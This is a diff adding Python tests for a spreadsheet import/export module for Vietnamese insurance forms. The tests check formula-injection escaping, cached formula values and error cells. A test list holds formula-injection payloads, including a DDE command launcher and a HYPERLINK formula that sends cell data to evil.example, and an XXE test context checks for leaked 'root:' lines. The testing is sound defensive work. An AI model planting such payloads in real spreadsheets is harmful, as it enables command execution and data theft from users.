@@ -147,3 +147,65 @@ def test_xxe_inside_a_workbook_is_refused(tmp_path):
         assert "root:" not in info.message("vi")
         return
     assert "root:" not in json.dumps(result.rows)       # read with the entity left unexpanded: nothing leaks
+
+
+def cached(path, values):
+    """Give formula cells the value a spreadsheet would have cached, as Excel writes it (openpyxl writes none):
+    ``values`` maps a cell ("B2") to (type, text), type "n", "str" or "e" (an error value)."""
+    import re
+
+    with zipfile.ZipFile(path) as src:
+        items = [(i, src.read(i.filename)) for i in src.infolist()]
+    with zipfile.ZipFile(path, "w") as dst:
+        for item, data in items:
+            if item.filename.startswith("xl/worksheets/sheet"):
+                text = data.decode()
+                for ref, (kind, value) in values.items():
+                    text, n = re.subn(rf'<c r="{ref}"([^>]*)><f>(.*?)</f><v\s*/?>(?:</v>)?',
+                                      rf'<c r="{ref}"\1 t="{kind}"><f>\2</f><v>{value}</v>', text)
+                    assert n == 1, ref
+                data = text.encode()
+            dst.writestr(item, data)
+    return path
+
+
+HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+1", "-2+3",
+           "@SUM(1,2)", "\t=1+1", "\r=1+1"]
+
+
+def test_export_writes_no_formula_and_import_gives_the_text_back(tmp_path):
+    """OWASP's rule: text a spreadsheet would evaluate goes out behind an apostrophe, as a text cell."""
+    rows = [{**example_dict()["forms"]["D02-TS"][0], "Hoten": text, "chucVu": text} for text in HOSTILE]
+    path = tmp_path / "out.xlsx"
+    export({"D02-TS": rows}, path)
+    with zipfile.ZipFile(path) as z:
+        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    ws = load_workbook(path)["D02-TS"]
+    names = [ws.cell(r, 2).value for r in range(4, 4 + len(HOSTILE))]
+    assert names == ["'" + t for t in HOSTILE]
+    kinds = {ws.cell(r, c).data_type for r in range(4, 4 + len(HOSTILE)) for c in range(1, ws.max_column + 1)}
+    assert kinds <= {"s", "inlineStr"}
+    back = import_sheet(path, "D02-TS")
+    assert [r["Hoten"] for r in back.rows] == HOSTILE and not back.refused
+
+
+def test_a_formula_is_read_by_its_cached_value_and_one_without_is_named(tmp_path):
+    path = sheet(tmp_path / "f.xlsx", ["pa", "Hoten", "Masobhxh", "tienLuong"],
+                 [["DC", '="Nguyễn "&"An"', "0123456789", "=5000000*3"],
+                  ["DC", "Bình", "0123456780", "=A1*2"]])
+    cached(path, {"B2": ("str", "Nguyễn An"), "D2": ("n", "15000000")})       # D3 was never computed
+    result = import_sheet(path, "D02-TS")
+    assert [(n.column, n.row, n.code) for n in result.refused] == [("D", 3, "excel.formula_no_value")]
+    assert "D02-TS!D3" in result.refused[0].message("vi") and "=A1*2" in result.refused[0].message("vi")
+    assert result.rows == []                          # never half-applied
+    assert sorted((n.column, n.row) for n in result.converted if n.code == "excel.formula_value") == \
+        [("B", 2), ("D", 2)]
+
+
+def test_a_formula_error_value_is_refused(tmp_path):
+    path = sheet(tmp_path / "e.xlsx", ["pa", "Hoten", "tienLuong"], [["DC", "An", "=1/0"]])
+    cached(path, {"C2": ("e", "#DIV/0!")})
+    result = import_sheet(path, "D02-TS")
+    assert [(n.column, n.row, n.code) for n in result.refused] == [("C", 2, "excel.cell_error")]
+    assert "#DIV/0!" in result.refused[0].message("en")
